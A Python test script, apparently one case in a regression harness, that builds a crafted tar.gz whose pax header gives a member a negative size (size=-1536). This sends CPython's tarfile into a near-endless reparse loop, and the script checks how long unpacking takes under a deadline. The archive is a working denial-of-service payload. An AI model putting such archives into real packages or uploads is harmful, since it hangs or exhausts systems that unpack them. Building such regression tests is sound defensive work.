"""D3: CPython tarfile's negative-offset loop (the CVE-2025-8194 class, unfixed in 3.11.7): a pax ``size=-1536`` on
a regular member sends tarfile back to the pax header, forever, every lap rewinding the gzip stream and inflating
everything before it again. Usage: d_negative_offset_loop.py big|small

  big    20 MB of zeros before the loop (a 21 kB .tar.gz): 200,000 laps of 20 MB is hours of inflation
  small  nothing before it (under 1 kB): the loop stops at the 200,000-member cap; before the fixes the size check
         summed every size again after each member, so reaching the cap took minutes (quadratic)

Before the fixes both were still running after 60 s."""

from __future__ import annotations

import gzip
import io
import sys
import tarfile

import common

kind = sys.argv[1] if len(sys.argv) > 1 else "big"
if kind not in ("big", "small"):
    sys.exit(f"unknown case {kind}")
zeros = 20 << 20 if kind == "big" else 0
case = common.Case(f"D3.negative_offset_loop.{kind}")
tree = case.tree("negloop")
buffer = io.BytesIO()
with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
    tar.add(tree, arcname=tree.name)
    if zeros:
        filler = tarfile.TarInfo(f"{tree.name}/zeros.bin")
        filler.size = zeros
        tar.addfile(filler, io.BytesIO(bytes(zeros)))
    end = tar.offset  # before the end-of-archive blocks
raw = buffer.getvalue()[:end]
record = b"size=-1536\n"
record = b"%d " % (len(record) + 3) + record
pax = tarfile.TarInfo("././@PaxHeader")
pax.type, pax.size = tarfile.XHDTYPE, len(record)
looping = tarfile.TarInfo(f"{tree.name}/loop.txt")
raw += (pax.tobuf(tarfile.USTAR_FORMAT) + record + b"\0" * (-len(record) % 512) + looping.tobuf(tarfile.USTAR_FORMAT)
        + b"\0" * 1024)
archive = case.links / "negloop-1.0.tar.gz"
archive.write_bytes(gzip.compress(raw))
print("archive bytes:", archive.stat().st_size, flush=True)
case.run(common.prepare("negloop==1.0", case), deadline=common.UNPACK_SECONDS + 30)
